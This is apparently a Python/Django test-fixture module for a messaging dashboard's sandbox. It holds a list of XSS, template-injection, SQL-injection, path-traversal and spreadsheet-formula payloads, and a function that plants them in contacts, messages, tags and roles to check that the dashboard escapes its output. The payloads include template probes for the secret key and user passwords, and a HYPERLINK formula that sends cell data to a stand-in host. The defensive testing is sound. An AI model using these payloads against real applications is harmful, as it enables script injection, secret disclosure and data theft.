"""Hostile text for the sandbox: strings that would run script, inject markup, evaluate template
code, spoof text direction or break spreadsheets if any page printed them unescaped, and
`plant()` to write them into every field of the sandbox that the dashboard shows.

WapiKit's text comes from strangers (contacts name themselves, write the messages, and any
organisation member can name roles and tags), so every one of these must reach the screen as
the literal text it is. Each script payload sets `window.__pwned`, so a browser test can tell
whether any of them ran.

`plant()` is what `manage.py seed_hostile` runs. It changes a handful of Active conversations
so that they are the newest (on the inbox's first page) and fills them with the corpus; run
`seed_sandbox` afterwards to get the normal demo data back."""

from __future__ import annotations

import uuid
from datetime import timedelta
from typing import Sequence

from django.db import transaction
from django.utils import timezone

from .models import Conversation, Member, Message, Role, Tag

PWNED = "window.__pwned=1"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "‮evil.exe" reads as "exe.live" with it applied

HOSTILE: list[str] = [
    # The first eight become contact names (see `plant`): markup, script, template code and a
    # right-to-left override among them.
    f"<script>{PWNED}</script>",
    f'"><img src=x onerror="{PWNED}">',
    f"javascript:{PWNED}",
    "{{ 7*7 }}",  # Django / Jinja
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    f"{RLO}evil.exe",
    f"<svg onload={PWNED}>",
    # Breaking out of attributes, textareas, titles and scripts.
    f"</textarea><script>{PWNED}</script>",
    f"' onmouseover='{PWNED}",
    f'<a href="javascript:{PWNED}">x</a>',
    f'<iframe src="javascript:{PWNED}">',
    "<style>body{display:none}</style>",
    "${7*7}",  # JavaScript template literals
    "<img src=x onerror=alert(1)>",  # a dialog, if it ever ran
    f"</title><script>{PWNED}</script>",
    f"</script><script>{PWNED}</script>",
    f"<details open ontoggle={PWNED}>",
    f"<body onload={PWNED}>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWNED}">',  # mutation XSS
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWNED}">',
    f'<form action="javascript:{PWNED}"><button>go</button></form>',
    # htmx attributes: they would be live if rendered as markup in an htmx page.
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx</div>',
    f'<div hx-on:htmx:load="{PWNED}">htmx-on</div>',
    # Already-escaped text must stay as written, not be unescaped once more.
    f"&lt;script&gt;{PWNED}&lt;/script&gt;",
    "{% templatetag openvariable %} {{ request.user.password }}",
    "[[7*7]] {{constructor.constructor('window.__pwned=1')()}}",  # client-side template engines
    # Spreadsheet formulas (the CSV export), format strings, SQL and paths.
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1-2 @SUM(A1:A9) %s %(password)s {0} {name}",
    "Robert'); DROP TABLE conversations;--",
    "../../organization/members",
    f"%3Cscript%3E{PWNED}%3C/script%3E",
]


def _cycle(corpus: Sequence[str], index: int) -> str:
    return corpus[index % len(corpus)]


def _message(conversation: Conversation, at, kind: str, data: dict, *, inbound: bool = True, unread: bool = False) -> Message:
    return Message(
        unique_id=uuid.uuid4(),
        conversation=conversation,
        direction="InBound" if inbound else "OutBound",
        status="Unread" if unread else ("Read" if inbound else "Delivered"),
        message_type=kind,
        created_at=at,
        message_data=data,
        whatsapp_message_id=f"wamid.hostile.{uuid.uuid4().hex[:16]}",
    )


def plant(corpus: Sequence[str] = HOSTILE, *, conversations: int = 8) -> dict:
    """Write the corpus into the sandbox: contact names, phones and attributes, message texts,
    captions, file names, locations, reactions and media links, tag labels, role names and
    descriptions, and member names (emails stay as they are, so sign-ins keep working).

    The chosen conversations are Active and get the newest activity, so they open the inbox's
    first page. Answers what was planted, conversation ids included."""
    corpus = list(corpus)
    if not corpus:
        raise ValueError("the corpus is empty")
    now = timezone.now()
    with transaction.atomic():
        chosen = list(Conversation.objects.filter(status=Conversation.Status.ACTIVE).order_by("-last_activity_at", "id")[:conversations])
        if not chosen:
            raise ValueError("the sandbox has no Active conversation: run seed_sandbox first")

        # Roles: hostile names and descriptions; the permissions stay, so powers do not change.
        roles = list(Role.objects.order_by("id"))
        for i, role in enumerate(roles):
            role.name = _cycle(corpus, i)
            role.description = _cycle(corpus, i + 1)
        Role.objects.bulk_update(roles, ["name", "description"])

        # Members: hostile names, real emails.
        members = list(Member.objects.order_by("id"))
        for i, member in enumerate(members):
            member.name = _cycle(corpus, i)
        Member.objects.bulk_update(members, ["name"])
        with_roles = [m for m in Member.objects.filter(roles__isnull=False).distinct().order_by("id")] or members

        tags = Tag.objects.bulk_create([Tag(unique_id=uuid.uuid4(), label=text) for text in corpus])

        planted = []
        for i, conversation in enumerate(chosen):
            contact = conversation.contact
            contact.name = _cycle(corpus, i)
            contact.phone = _cycle(corpus, i + 1)
            contact.attributes = {
                "city": _cycle(corpus, i + 2),
                "plan": _cycle(corpus, i + 3),
                _cycle(corpus, i + 4): _cycle(corpus, i + 5),
                "notes": list(corpus),
            }
            contact.save(update_fields=["name", "phone", "attributes"])

            # The thread: replaced by one message per corpus string plus every media shape,
            # the newest (a hostile text) a moment ago, so the card shows it.
            Message.objects.filter(conversation=conversation).delete()
            newest = now - timedelta(seconds=i)
            texts = list(corpus)
            texts.append(texts.pop(i % len(texts)))  # this conversation's own string comes last
            media: list[tuple[str, dict]] = [
                ("Image", {"id": "hostile-img", "link": f"javascript:{PWNED}", "caption": _cycle(corpus, i + 6)}),
                ("Video", {"id": "hostile-vid", "link": f"javascript:{PWNED}", "caption": _cycle(corpus, i + 7)}),
                ("Document", {"id": "hostile-doc", "link": f"javascript:{PWNED}", "fileName": _cycle(corpus, i + 8),
                              "caption": _cycle(corpus, i + 9)}),
                ("Audio", {"id": "hostile-audio", "link": f"javascript:{PWNED}"}),
                ("Sticker", {"id": "hostile-sticker", "link": f"data:text/html,<script>{PWNED}</script>"}),
                ("Location", {"latitude": 51.5, "longitude": -0.12, "name": _cycle(corpus, i + 10),
                              "address": _cycle(corpus, i + 11)}),
            ]
            count = len(media) + 1 + len(texts)
            start = newest - timedelta(minutes=count)
            thread: list[Message] = []
            for n, (kind, data) in enumerate(media):
                thread.append(_message(conversation, start + timedelta(minutes=n), kind, data, inbound=n % 2 == 0))
            target = thread[0]
            thread.append(
                _message(conversation, start + timedelta(minutes=len(media)), "Reaction",
                         {"reaction": _cycle(corpus, i + 12), "messageId": str(target.unique_id)})
            )
            for n, text in enumerate(texts):
                at = newest if n == len(texts) - 1 else start + timedelta(minutes=len(media) + 1 + n)
                thread.append(_message(conversation, at, "Text", {"text": text}, inbound=n % 3 != 1,
                                       unread=n >= len(texts) - 2))
            Message.objects.bulk_create(thread)

            conversation.last_activity_at = newest
            conversation.assigned_to = with_roles[i % len(with_roles)]
            conversation.save(update_fields=["last_activity_at", "assigned_to"])
            conversation.tags.set(tags[i % len(tags): i % len(tags) + 3] or tags[:3])
            planted.append(
                {"id": str(conversation.unique_id), "contact": contact.name, "messages": len(thread),
                 "assignee": conversation.assigned_to.email}
            )

    return {"conversations": planted, "strings": len(corpus), "tags": len(tags), "roles": len(roles), "members": len(members)}
